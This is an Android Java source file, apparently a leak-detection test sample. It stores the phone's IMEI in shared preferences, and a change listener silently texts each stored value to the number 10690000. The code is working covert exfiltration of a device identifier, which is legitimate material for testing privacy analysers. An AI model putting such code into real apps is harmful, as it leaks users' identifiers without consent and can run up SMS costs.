package cn.privlens.suite.prefs_listener;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SharedPreferences prefs = getSharedPreferences("p", MODE_PRIVATE);
        prefs.registerOnSharedPreferenceChangeListener(new SharedPreferences.OnSharedPreferenceChangeListener() {
            @Override
            public void onSharedPreferenceChanged(SharedPreferences p, String key) { SmsManager.getDefault().sendTextMessage("10690000", null, p.getString(key, ""), null, null); }
        });
        prefs.edit().putString("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()).putString("other", "o").apply();
    }

}
